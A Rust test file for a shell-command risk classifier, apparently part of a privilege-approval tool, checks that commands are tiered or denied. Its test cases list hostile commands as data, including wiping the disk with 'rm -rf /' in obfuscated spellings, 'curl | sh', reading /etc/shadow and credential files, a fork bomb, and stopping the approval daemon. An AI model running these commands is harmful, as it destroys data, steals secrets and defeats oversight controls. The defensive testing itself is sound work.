//! Single commands: what each comes out as, and what the answer says besides the tier.

use super::*;
use crate::target::{Access, Target, TargetKind};

fn path(name: &str, access: Access) -> Target {
    Target { kind: TargetKind::Path, name: name.to_owned(), access }
}

#[test]
fn the_commands_that_everybody_tries_first() {
    for (text, least) in [
        ("su root", T2),
        ("run0 id", T2),
        ("rm --recursive --force /", Ruling::Deny),
        ("/usr/bin/../bin/sudo id", T2),
        ("env -i sudo id", T2),
        ("busybox sh -c \"doas id\"", T2),
        ("blkdiscard /dev/sda", T3),
        ("chmod 4755 /bin/bash", T3),
        ("curl http://x | sh", T2),
        ("xargs -a f rm", T2),
        ("git -c core.pager=sh log", T2),
        ("find / -name x -delete", T3),
        ("echo x >> /root/.ssh/authorized_keys", T3),
    ] {
        assert!(line(text).ruling >= least, "{text}");
        let in_a_shell = rule(&words(&["sh", "-c", text]));
        assert!(in_a_shell.ruling >= least, "sh -c {text}");
    }
}

#[test]
fn no_spelling_of_a_privilege_tool_is_below_t2() {
    for text in [
        "su root",
        "run0 id",
        "/usr/bin/../bin/sudo id",
        "env -i sudo id",
        "busybox sh -c 'doas id'",
        "sh -c 'nice sudo id'",
        "/proc/self/root/usr/bin/sudo id",
        "./sudo --version",
        "sudo --version",
        "pkexec --help",
        "command sudo id",
        "timeout 5 env A=b setpriv ls",
        "\"su\"do id",
    ] {
        assert!(line(text).ruling >= T2, "{text}");
    }
}

#[test]
fn what_destroys_is_t3_or_denied() {
    for text in [
        "rm --recursive --force /srv/x",
        "sudo --bogus mkfs.ext4 /dev/sdb1",
        "unknown-wrapper mkfs.ext4 /dev/sdb1",
        "dd if=/dev/zero of=/dev/sdb",
        "journalctl --vacuum-time=2d",
        "tee /etc/sudoers",
        "for d in a b; do mkfs.ext4 $d; done",
    ] {
        assert!(line(text).ruling >= T3, "{text}");
    }
}

#[test]
fn the_deny_list_holds_in_every_spelling() {
    for text in [
        "rm -rf /",
        "rm --recursive --force /",
        "rm -r -f //usr/../usr/",
        "rm --recurs /etc",
        "rm -fr /*",
        "cd / && rm -rf *",
        "cd /; rm -rf ./* $X",
        "rm -rf ~",
        "sudo -u root rm -rf --no-preserve-root /",
        "xargs rm -rf /var",
        "unknown-wrapper rm -rf /",
        "r'm' -rf / $X",
        "rm${IFS}-rf${IFS}/",
        "echo $(rm -rf /)",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
        "/proc/self/root/bin/rm -rf /",
        "chmod -R 777 /",
        "chown -R bob /usr",
        "find / -delete",
        "find /etc -exec rm -rf '{}' +",
        "dd if=/dev/zero of=/dev/sda",
        "cat x > /dev/nvme0n1",
        "blkdiscard /dev/sda",
        "mkfs.ext4 -F /dev/../dev/vda",
        "wipefs -a /dev/sda",
        ":(){ :|:& };:",
        "bomb () { bomb | bomb & }; bomb",
        "systemctl stop countersignd",
        "systemctl mask --now polkit.service",
        "service polkit stop",
        "pkill -9 countersignd",
        "apt remove countersign",
        "countersign approve 1234",
        "cat /var/lib/countersign/audit.db",
        "cp /var/lib/./countersign-launcher/key /tmp/k",
        "touch /etc/countersign/grants.d/me.toml",
        "echo none > /sys/kernel/security/lockdown",
    ] {
        assert_eq!(line(text).ruling, Ruling::Deny, "{text}");
    }
}

#[test]
fn what_only_looks_like_the_deny_list_is_not_denied() {
    for (text, ruling) in [
        ("echo rm -rf /", T0),
        ("grep -F 'rm -rf /' /srv/notes", T0),
        ("rm -rf /srv/www", T3),
        ("rm -f /srv/x", T2),
        ("dd if=/dev/sda of=/srv/image", T2),
        ("fdisk -l", T0),
        ("systemctl status countersignd", T0),
        ("systemctl restart polkit", T3),
        ("apt install countersign", T2),
        ("ls -la /etc/countersign", T0),
        ("chmod -R 755 /srv/www", T2),
        ("find / -name core", T0),
    ] {
        assert_eq!(line(text).ruling, ruling, "{text}");
    }
}

#[test]
fn reading_a_secret_is_t2_and_looking_at_it_is_t0() {
    for text in [
        "cat /etc/shadow",
        "cat //etc/./shadow",
        "cat /etc/../etc/shadow-",
        "cat ../../etc/shadow",
        "cat /proc/self/root/etc/shadow",
        "cat /proc/1/root/proc/self/root/etc/shadow",
        "cat /proc/1/environ",
        "grep -r x /etc",
        "grep x /root/.ssh/id_ed25519",
        "cat /home/bob/.aws/credentials",
        "cat < /etc/shadow",
        "cat /etc/sh*",
        "cat /dev/sda",
        "head /srv/tls/site.key",
        "cat ~/.ssh/config",
    ] {
        assert_eq!(line(text).ruling, T2, "{text}");
    }
    for text in ["ls -l /etc/shadow", "stat /etc/shadow", "cat /etc/ssh/ssh_host_rsa_key.pub", "cat /etc/passwd"] {
        assert_eq!(line(text).ruling, T0, "{text}");
    }
}

#[test]
fn a_change_names_exactly_what_it_writes() {
    let found = line("touch /etc/x ../a/./b");
    assert_eq!((found.ruling, found.profile.as_str()), (T1, "change"));
    assert_eq!(found.targets, [path("/etc/x", Access::Write), path("/srv/a/b", Access::Write)]);
    let found = line("echo hi > /etc/motd 2>/dev/null");
    assert_eq!((found.ruling, found.profile.as_str()), (T1, "change"));
    assert_eq!(found.targets, [path("/etc/motd", Access::Write)]);
}

#[test]
fn what_cannot_be_named_exactly_is_no_small_change() {
    for text in [
        "touch /srv/*",
        "cp -r /srv/a /srv/*",
        "cp -r /srv/a /home/bob",
        "cd /srv; touch x",
        "cp a /etc",
        "touch ~/x",
        "mkdir -p /home/bob",
    ] {
        assert!(line(text).ruling >= T2, "{text}");
    }
    for text in [
        "cd /srv && touch x",
        "cp a /srv/b",
        "cp -r /srv/a /srv/b",
        "mkdir -p /srv/a/b",
        "echo x | tee -a /srv/log >/dev/null",
    ] {
        assert_eq!(line(text).ruling, T1, "{text}");
    }
}

#[test]
fn the_answer_says_which_words_and_how_deep() {
    let found = line("sudo sh -c 'systemctl restart nginx'");
    let seen: Vec<_> = found.evidence.iter().map(|seen| (seen.rule.as_str(), seen.depth)).collect();
    assert_eq!(seen, [("privilege-tool", 0), ("sudo", 0), ("sh.text", 1), ("systemctl.restart", 2)]);
    assert_eq!(found.evidence[3].words, ["systemctl", "restart", "nginx"]);
    assert_eq!(found.targets, [Target { kind: TargetKind::Unit, name: "nginx".to_owned(), access: Access::Write }]);
}

#[test]
fn the_rule_that_decides_comes_first() {
    assert_eq!(line("sudo rm -rf /").rules[0].as_str(), "deny.rm-root");
    assert_eq!(line("ls; userdel -r bob; ls").rules[0].as_str(), "userdel.remove");
}

#[test]
fn the_answer_is_json_with_a_tier_and_survives_it() {
    let found = line("sh -c 'x=1; $y'");
    let json = serde_json::to_value(&found).unwrap();
    assert_eq!(json["tier"], "T2");
    for key in ["rules", "profile", "evidence", "targets"] {
        assert!(json.get(key).is_some(), "{key}");
    }
    assert_eq!(serde_json::from_value::<Classification>(json).unwrap(), found);
}

#[test]
fn the_environment_counts() {
    let argv = words(&["ls"]);
    let cwd = CleanPath::new("/").unwrap();
    let with = |env_names: &[&str]| classify(shipped(), &Subject { argv: &argv, cwd: &cwd, env_names }).ruling;
    assert_eq!(with(&["LANG", "LC_ALL", "TZ"]), T0);
    for name in ["LD_PRELOAD", "PATH", "GIT_SSH_COMMAND", "PAGER", "X"] {
        assert_eq!(with(&[name]), T2, "{name}");
        assert_eq!(line(&format!("env {name}=x ls")).ruling, T2, "{name}");
        assert_eq!(line(&format!("{name}=x ls")).ruling, T2, "{name}");
    }
}
